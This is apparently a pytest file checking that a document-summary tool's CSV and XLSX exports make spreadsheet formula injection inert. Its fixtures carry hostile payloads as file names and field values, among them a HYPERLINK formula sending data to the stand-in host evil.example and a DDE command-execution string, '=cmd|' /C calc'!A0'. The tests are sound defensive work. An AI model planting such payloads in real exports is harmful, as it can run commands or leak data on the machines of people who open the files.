"""Exports that spreadsheets open: text from documents and file names never becomes a live formula."""
from __future__ import annotations

import csv
import io
from decimal import Decimal, InvalidOperation
from pathlib import Path

import openpyxl
import pytest

from summarymine.cli import main as cli_main
from summarymine.ingest import import_paths

# What an attacker puts in a file name or a body's name, each a working formula in Excel or LibreOffice.
HOSTILE = ['=HYPERLINK("http:\\\\evil.example\\?leak","报告")', "+SUM(1,2)", "-2+3", "@SUM(A1)", "=1+1"]
REPORT = "{year}年全区地区生产总值完成{value}亿元，同比增长{growth}%。\n{next}年预期目标：地区生产总值增长8%。"
LIVE = tuple("=+-@\t\r")


@pytest.fixture(scope="module")
def hostile_files(tmp_path_factory) -> list[Path]:
    folder = tmp_path_factory.mktemp("hostile")
    files = []
    for n, name in enumerate(HOSTILE):
        path = folder / f"{name}_{2013 + n}.txt"
        path.write_text(REPORT.format(year=2013 + n, value=30 + n, growth=9 - n, next=2014 + n), encoding="utf-8")
        files.append(path)
    return files


def _not_a_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return True
    return False


def _live_csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(LIVE) and _not_a_number(cell)]


@pytest.mark.parametrize("args", [
    ["compare", "--format", "csv"], ["compare", "--format", "csv", "--wide"],
])
def test_csv_cells_never_start_a_formula(hostile_files, capsys, args):
    assert cli_main([*args, *map(str, hostile_files), "--set-org", "=cmd|' /C calc'!A0"]) == 0
    out = capsys.readouterr().out
    assert _live_csv_cells(out) == []
    assert "'=cmd|' /C calc'!A0" in out  # the text kept, made inert
    if "--wide" not in args:
        assert "'+SUM(1,2)_2014.txt" in out and "'=HYPERLINK(" in out
        rows = list(csv.DictReader(io.StringIO(out)))
        assert {row["value"] for row in rows} >= {"3000000000", "3100000000"}  # numbers stay numbers
        # Growth 9%, then 8%: the change is a negative number, written as one.
        assert any(row["change"].startswith("-") and not _not_a_number(row["change"]) for row in rows)


def test_query_csv_cells_never_start_a_formula(hostile_files, tmp_path, capsys):
    db = tmp_path / "s.sqlite"
    import_paths(hostile_files, db, jobs=1)
    assert cli_main(["query", "--db", str(db), "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert _live_csv_cells(out) == []
    assert "'@SUM(A1)_2016.txt" in out


@pytest.mark.parametrize("args", [
    ["compare", "--format", "xlsx"], ["compare", "--format", "xlsx", "--wide"], ["audit", "--format", "xlsx"],
])
def test_xlsx_cells_are_text_or_numbers_never_formulas(hostile_files, tmp_path, args):
    out = tmp_path / "out.xlsx"
    assert cli_main([*args, *map(str, hostile_files), "--set-org", "=cmd|' /C calc'!A0", "-o", str(out)]) == 0
    book = openpyxl.load_workbook(out)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert "=cmd|' /C calc'!A0" in texts  # shown as written
    if args[0] == "compare" and "--wide" not in args:
        assert '=HYPERLINK("http:\\\\evil.example\\?leak","报告")_2013.txt' in texts
    assert any(c.data_type == "n" and isinstance(c.value, (int, float)) for c in cells)  # numbers stay numbers
